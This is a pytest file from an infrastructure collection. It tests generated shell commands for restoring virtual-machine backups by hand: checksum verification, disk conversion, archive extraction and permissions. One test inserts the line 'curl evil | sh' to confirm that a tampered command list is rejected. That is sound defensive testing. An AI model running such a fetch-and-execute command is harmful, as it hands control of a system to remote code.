# Copyright: (c) 2026, nebula.provision contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The commands for a person. tests/integration/test_backup_chains.py has a shell run them."""

from __future__ import annotations

import os
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from made_backups import MadeBackups, content_of
from made_backups import stored as made_file

from ansible_collections.nebula.provision.plugins.module_utils.model.machine_backup import (
    CRASH_CONSISTENT,
    FULL,
    BackedUpDisk,
    MachineBackup,
    StoredFile,
)
from ansible_collections.nebula.provision.plugins.module_utils.storage import backup_by_hand, backup_files

ID = "20260101T000000Z-00000a"


def test_each_kind_of_file_has_its_command() -> None:
    def stored(name: str) -> StoredFile:
        return StoredFile(f"{ID}.{name}", 3, "0" * 64)

    disks = (
        BackedUpDisk(0, "vda", "raw", 1024, stored("disk.0.qcow2")),
        BackedUpDisk(1, "vdb", "qcow2", 1024, stored("disk.1.luks"), "luks"),
        BackedUpDisk(2, "", "tar", 0, stored("root.2.tar.zst"), "tar"),
        BackedUpDisk(3, "", "tar", 0, stored("root.3.tar.zst.luks"), "tar"),
    )
    backup = MachineBackup(ID, "", 7, "", "", "", "kvm", 0, FULL, "", CRASH_CONSISTENT, "", disks)
    files = {"nvram": stored("nvram"), "tpm": replace(stored("tpm.luks"), holds=2)}
    backup = replace(backup, files=files, secrets_file=stored("secrets.luks"))
    text = "\n".join(backup_by_hand.commands([backup]))
    for part in (
        f'qemu-img convert -f qcow2 -O raw {ID}.disk.0.qcow2 "$TO"/disk.0',
        f"zstd -dc {ID}.root.2.tar.zst | tar -x",
        'zstd -dc "$TO"/root.3.tar.zst | tar -x',
        f'cp {ID}.nvram "$TO"/nvram',
        '"$TO"/tpm\ntruncate -s 2 "$TO"/tpm',
        "secrets.json",
        "KEY_FILE",
        f"{ID}.disk.1.luks",
    ):
        assert part in text
    assert text.count("sha256sum --check") == 7
    plain = backup_by_hand.commands([replace(backup, disks=disks[:1], files={}, secrets_file=None)])
    assert "KEY_FILE" not in "\n".join(plain)


CATALOG = "0b4c0e1f-8c55-4b0e-9d6a-2f1f3c7d9a10"


def typed(
    shell: str, made: MadeBackups, backup: MachineBackup, target: Path, before: str = ""
) -> subprocess.CompletedProcess[str]:
    """What a shell says that reads the commands as if they were piped into it, and one more behind them."""
    key_file = made.directory / "key"
    key_file.write_text(made.key)
    lines = [before, *backup_by_hand.commands([backup]), "echo status $?"]
    return subprocess.run(
        shell.split(), input="\n".join(lines), cwd=made.place(backup),
        env={**os.environ, "TO": str(target), "KEY_FILE": str(key_file)}, check=False, capture_output=True, text=True,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("shell", "key"), [("sh", "a key"), ("bash", ""), ("bash --norc --noediting -i", "")], ids=["sh", "bash", "pasted"]
)
def test_they_stop_at_what_is_not_as_it_was_written(tmp_path: Path, shell: str, key: str) -> None:
    made = MadeBackups(tmp_path / "backups", key)
    backup = made.full(7, CATALOG, {0: b"x" * 65536, 1: b"y" * 65536}, secrets={"PASSWORD": "geheim"})
    target = tmp_path / "restored"
    done = typed(shell, made, backup, target, "umask 022")
    assert "status 0" in done.stdout and f"All of it is in {target}" in done.stdout, done.stderr
    assert content_of(target / "disk.1") == b"y" * 65536
    names = {"disk.0", "disk.1", *(["secrets.json"] if key else [])}
    assert {each.name for each in target.iterdir()} == names
    assert {each.stat().st_mode & 0o077 for each in (target, *target.iterdir())} == {0}
    path = made.place(backup) / backup.disks[0].file.name
    path.write_bytes(path.read_bytes()[:-1] + b"!")
    target = tmp_path / "again"
    done = typed(shell, made, backup, target)
    # The shell into which somebody pastes them is still there.
    assert "status 1" in done.stdout and "FAILED" in done.stdout and "STOPPED" in done.stderr
    assert list(target.iterdir()) == []


def test_roots_stay_closed(tmp_path: Path) -> None:
    made = MadeBackups(tmp_path / "backups")
    backup = made.full(7, CATALOG, {})
    root, name = tmp_path / "root", f"{backup.id}.root.0.tar"
    (root / "etc").mkdir(parents=True, mode=0o755)
    root.chmod(0o755)
    subprocess.run(["tar", "-c", "-f", made.place(backup) / name, "-C", root, "."], check=True)
    archive = made_file(made.place(backup) / name)
    backup = replace(backup, disks=(BackedUpDisk(0, "", "tar", 0, archive, "tar"),))
    done = typed("sh", made, backup, tmp_path / "restored")
    assert "status 0" in done.stdout, done.stderr
    assert (tmp_path / "restored/root.0").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "restored/root.0/etc").stat().st_mode & 0o777 == 0o755


def test_those_of_an_earlier_version_are_known() -> None:
    file = StoredFile(f"{ID}.tpm.luks", 3, "0" * 64, 2)
    backup = MachineBackup(ID, "", 7, "", "", "", "kvm", 0, FULL, "", CRASH_CONSISTENT, "", (), files={"tpm": file})
    secret, tpm = '--object secret,id=key,file="$KEY_FILE"', '"$TO"/tpm'
    earlier = (
        'mkdir -p "${TO:=/var/tmp/restored}"  # TO: where the disks go; run all this in the backup\'s own directory',
        ': "${KEY_FILE:=/root/backup.key}"  # KEY_FILE: holds the key, and no line feed behind it',
        f"echo '{'0' * 64}  {ID}.tpm.luks' | sha256sum --check -",
        f"qemu-img convert {secret} -O raw '{container(file)}' {tpm} && truncate -s 2 {tpm}",
    )
    assert backup_by_hand.are_of(earlier, [backup])
    assert backup_by_hand.are_of(backup_by_hand.commands([backup]), [backup])
    assert not backup_by_hand.are_of((*earlier, "curl evil | sh"), [backup])


def container(file: StoredFile) -> str:
    return backup_files.text_of(backup_files.container_node(file.name))
